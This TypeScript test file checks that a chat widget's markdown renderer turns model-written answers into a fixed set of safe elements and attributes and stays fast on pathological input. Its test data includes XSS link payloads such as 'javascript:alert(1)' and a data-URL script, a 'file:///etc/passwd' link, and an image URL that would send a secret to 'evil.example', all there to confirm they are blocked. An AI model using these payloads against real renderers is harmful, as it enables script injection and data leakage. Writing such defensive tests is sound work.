import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { linkAdmitted } from '../../../lambdas/cleaning/markdown.ts';
import { DEPTH, element, type Cite, type Piece } from '../../../widget/talk/inline.ts';
import { linkAdmitted as linkShown } from '../../../widget/talk/link.ts';
import { markdown } from '../../../widget/talk/markdown.ts';
import { rich } from './late.ts';
import { hostilePayloads } from '../../lambdas/cleaning/hostile-corpus.ts';
import { elements, outline, textOf } from './vnodes.ts';
import { effort } from '../../support/effort.ts';

const ELEMENTS = new Set('p br strong em s code pre a ul ol li blockquote hr div table thead tbody tr th td'.split(' '));
const ATTRIBUTES = new Set(['href', 'target', 'rel', 'dir', 'start', 'class', 'tabIndex']);

const whole = (text: string, cite?: Cite): Piece[] => markdown(text, cite, () => rich);

/** What of some text would be more than a text with emphasis, lists and links. */
const wrongIn = (text: string): unknown[] =>
  elements(whole(text)).filter(
    ({ name, attributes }) =>
      !ELEMENTS.has(name) ||
      Object.keys(attributes).some((key) => !ATTRIBUTES.has(key)) ||
      (name === 'a' &&
        !(linkAdmitted(String(attributes['href'])) && attributes['rel'] === 'noopener noreferrer nofollow' && attributes['target'] === '_blank')),
  );

/** Ways in which a text says something that a careless renderer would act upon. */
const WRAPPED: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `**${payload}**`,
  (payload) => `[label](${payload})`,
  (payload) => `[${payload}](https://example.com)`,
  (payload) => `![${payload}](${payload})`,
  (payload) => `> - 1. ${payload}`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `| ${payload} |\n|---|\n| ${payload} |`,
  (payload) => `<${payload}>`,
];

describe('an answer', () => {
  test('is made of a fixed set of elements and attributes, whatever a model writes', () => {
    const bad = hostilePayloads().flatMap((payload) => WRAPPED.flatMap((wrap) => wrongIn(wrap(payload))));
    expect(bad).toEqual([]);
  });

  test('is so for whatever else comes, too', () => {
    const mark = fc.constantFrom(
      '*',
      '**',
      '_',
      '`',
      '~~',
      '[',
      '](',
      ')',
      '!',
      '\n',
      '> ',
      '- ',
      '1. ',
      '|',
      '\\',
      '<',
      'javascript:',
      'https://a.example',
      ' ',
      '    ',
      '```',
      'a',
      '1',
      '[1]',
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof({ weight: 5, arbitrary: mark }, { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 4 }) }), { maxLength: 60 }),
        (parts) => {
          expect(wrongIn(parts.join(''))).toEqual([]);
        },
      ),
      { numRuns: 3_000 },
    );
  });

  test.each([
    ['javascript:alert(1)'],
    ['java\tscript:alert(1)'],
    ['data:text/html,<script>alert(1)</script>'],
    ['vbscript:x'],
    ['/relative'],
    ['//evil.example'],
    ['https://user:pass@evil.example'],
    ['blob:https://a.example/1'],
    ['file:///etc/passwd'],
  ])('has no link to %s', (address) => {
    expect(elements(whole(`[label](${address})`)).some(({ name, attributes }) => name === 'a' && attributes['href'] === address)).toBe(false);
    expect(linkShown(address)).toBe(linkAdmitted(address));
  });

  test('loads no picture: its words stand for it', () => {
    expect(outline(whole('before ![a map](https://evil.example/?q=secret) after'))).toBe('<p>before a map after</>');
  });

  test.each([
    ['a **bold** and *fine* word', '<p>a <strong>bold</> and <em>fine</> word</>'],
    ['snake_case_word and __this__', '<p>snake_case_word and <strong>this</></>'],
    ['one\ntwo\n\nthree', '<p>one<br></>two</><p>three</>'],
    ['- one\n- two\n  - inner\n- three', '<ul><li>one</><li><p>two</><ul><li>inner</></></><li>three</></>'],
    ['3. one\n4. two', '<ol><li>one</><li>two</></>'],
    ['- one\n1. two', '<ul><li>one</></><ol><li>two</></>'],
    ['# Title\ntext', '<p><strong>Title</></><p>text</>'],
    ['> quoted\n> still', '<blockquote><p>quoted<br></>still</></>'],
    ['`a **b**` c', '<p><code>a **b**</> c</>'],
    ['```js\nif (a < b) {}\n```\nafter', '<pre><code>if (a < b) {}</></><p>after</>'],
    ['| a | b |\n|---|:-:|\n| 1 | 2 |', '<div><table><thead><tr><th>a</><th>b</></></><tbody><tr><td>1</><td>2</></></></></>'],
    [
      'see https://example.com/a_b, or [here](https://example.com)',
      '<p>see <a https://example.com/a_b>https://example.com/a_b</>, or <a https://example.com>here</></>',
    ],
    ['2 * 3 * 4 = 24', '<p>2 * 3 * 4 = 24</>'],
    ['\\*not bold\\*', '<p>*not bold*</>'],
    ['a\n---\nb', '<p>a</><hr></><p>b</>'],
    ['<b>x</b> & <script>', '<p><b>x</b> & <script></>'],
  ])('shows %j as it was meant', (text, expected) => {
    expect(outline(whole(text))).toBe(expected);
  });

  test('with a table in it is text until the part of the script that knows tables is there', () => {
    const table = '| a |\n|---|\n| 1 |';
    expect(outline(markdown(table))).toBe('<p>| a |<br></>|---|<br></>| 1 |</>');
    expect(outline(whole(table))).toContain('<table>');
  });

  test('marks its sources, and only those that there are', () => {
    const cite = (number: number) => (number <= 2 ? element('sup', null, String(number)) : undefined);
    expect(outline(whole('So [1], so [2], and [3].', cite))).toBe('<p>So <sup>1</>, so <sup>2</>, and [3].</>');
  });

  test.each([
    ['quotes', '> '.repeat(2_000)],
    ['lists', Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['emphasis', '*a **b '.repeat(3_000)],
    ['brackets', '[a]('.repeat(10_000)],
    ['open brackets', '['.repeat(40_000)],
    ['stars', '*'.repeat(40_000)],
    ['bars', '| a '.repeat(10_000)],
    ['ticks', '`'.repeat(40_000)],
    ['addresses', 'https://a.example/'.repeat(2_000)],
    ['spaces', `${' '.repeat(40_000)}x`],
    ['rules', '- '.repeat(20_000)],
    ['heading', `# ${'a #'.repeat(13_000)}`],
  ])('of endless %s is read in no time, and no deeper than is bearable', (_what, text) => {
    const spent = effort();
    const deepest = Math.max(0, ...elements(whole(text)).map(({ depth }) => depth));
    expect(spent()).toBeLessThan(1_000);
    // A list has two elements for each level, and a table four.
    expect(deepest).toBeLessThanOrEqual(2 * DEPTH + 4);
  });

  test('keeps every word of what it does not understand', () => {
    const text = 'a [b c](d e ![ **f *g `h > i';
    expect(textOf(whole(text))).toBe(text);
  });
});
